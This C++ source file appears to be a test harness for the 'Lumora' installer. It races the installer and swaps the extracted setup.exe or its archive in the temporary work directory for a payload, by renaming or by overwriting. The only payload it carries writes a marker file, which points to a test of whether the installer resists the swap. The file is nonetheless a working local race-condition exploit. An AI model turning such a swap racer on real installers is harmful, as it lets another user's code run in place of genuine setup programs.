// Another local user's program racing an installer for its extracted files, as anyone may on a
// volume without access lists: it watches the installer's folder for a work directory and, as fast
// as it can, tries one swap on a file there until told to stop.
//
//   swap-racer.exe MODE FOLDER PAYLOAD RECORD STOP REPORT   (FOLDER without a final backslash)
//
//   rename-setup     renames LM_*.tmp\setup.exe aside and copies PAYLOAD into its place
//   overwrite-setup  opens LM_*.tmp\setup.exe for writing and writes PAYLOAD over it
//   swap-archive     renames LM_*.tmp\LUMORA.PACKED.7Z aside and copies PAYLOAD into its place
//
// It stops 250 ms after the file RECORD appears (the setup program's record, written as it starts:
// by then it has read the archive it installs from, and the installer's own clean-up, which lets
// go of the files, has not begun), as soon as the file STOP appears (the run has ended without a
// setup program), or after 60 s; then it writes REPORT: one line
// "attempts=N swapped=M last_error=E". Started with any other first argument it is the
// attacker's program itself, copied in as setup.exe: it creates the file that the environment
// variable LUMORA_ATTACKER_MARKER names, and exits 0, as the genuine setup program would.
#include <windows.h>

#include <cstdio>
#include <cwchar>
#include <string>
#include <vector>

namespace {

bool Exists(const std::wstring& path) {
  return GetFileAttributesW(path.c_str()) != INVALID_FILE_ATTRIBUTES;
}

// The first work directory in folder, with its final backslash; empty while there is none.
std::wstring WorkDirectory(const std::wstring& folder) {
  WIN32_FIND_DATAW found;
  HANDLE search = FindFirstFileW((folder + L"LM_*.tmp").c_str(), &found);
  if (search == INVALID_HANDLE_VALUE) return L"";
  FindClose(search);
  return folder + found.cFileName + L"\\";
}

std::vector<char> Bytes(const std::wstring& path) {
  std::vector<char> bytes;
  HANDLE file = CreateFileW(path.c_str(), GENERIC_READ, FILE_SHARE_READ, nullptr, OPEN_EXISTING, 0,
                            nullptr);
  if (file == INVALID_HANDLE_VALUE) return bytes;
  LARGE_INTEGER size;
  GetFileSizeEx(file, &size);
  bytes.resize(static_cast<size_t>(size.QuadPart));
  DWORD read = 0;
  ReadFile(file, bytes.data(), static_cast<DWORD>(bytes.size()), &read, nullptr);
  CloseHandle(file);
  return bytes;
}

int Attacker() {
  wchar_t marker[MAX_PATH + 1] = {};
  if (GetEnvironmentVariableW(L"LUMORA_ATTACKER_MARKER", marker, MAX_PATH + 1) != 0) {
    HANDLE file = CreateFileW(marker, GENERIC_WRITE, 0, nullptr, CREATE_ALWAYS, 0, nullptr);
    if (file != INVALID_HANDLE_VALUE) {
      DWORD written = 0;
      WriteFile(file, "the attacker's program ran\n", 27, &written, nullptr);
      CloseHandle(file);
    }
  }
  return 0;
}

}  // namespace

int wmain(int argc, wchar_t** argv) {
  if (argc != 7) return Attacker();
  const std::wstring mode = argv[1];
  const bool rename = mode == L"rename-setup" || mode == L"swap-archive";
  if (!rename && mode != L"overwrite-setup") return Attacker();
  const std::wstring folder = std::wstring(argv[2]) + L"\\";
  const std::wstring payload = argv[3];
  const std::wstring record = argv[4];
  const std::wstring stop = argv[5];
  const std::vector<char> payload_bytes = Bytes(payload);
  const wchar_t* target_name = mode == L"swap-archive" ? L"LUMORA.PACKED.7Z" : L"setup.exe";

  unsigned long attempts = 0;
  unsigned long swapped = 0;
  DWORD last_error = 0;
  ULONGLONG deadline = GetTickCount64() + 60000;
  bool stopping = false;
  while (GetTickCount64() < deadline && !Exists(stop)) {
    if (!stopping && Exists(record)) {
      stopping = true;
      deadline = GetTickCount64() + 250;
    }
    const std::wstring work = WorkDirectory(folder);
    if (work.empty()) continue;
    const std::wstring target = work + target_name;
    if (!Exists(target)) continue;
    ++attempts;
    if (rename) {
      if (!MoveFileExW(target.c_str(), (target + L".aside").c_str(), 0)) {
        last_error = GetLastError();
        continue;
      }
      if (CopyFileW(payload.c_str(), target.c_str(), FALSE)) ++swapped;
    } else {
      HANDLE file = CreateFileW(target.c_str(), GENERIC_WRITE,
                                FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, nullptr,
                                OPEN_EXISTING, 0, nullptr);
      if (file == INVALID_HANDLE_VALUE) {
        last_error = GetLastError();
        continue;
      }
      DWORD written = 0;
      if (WriteFile(file, payload_bytes.data(), static_cast<DWORD>(payload_bytes.size()), &written,
                    nullptr) &&
          SetEndOfFile(file)) {
        ++swapped;
      }
      CloseHandle(file);
    }
  }
  FILE* report = _wfopen(argv[6], L"w");
  if (report == nullptr) return 1;
  std::fprintf(report, "attempts=%lu swapped=%lu last_error=%lu\n", attempts, swapped, last_error);
  std::fclose(report);
  return 0;
}
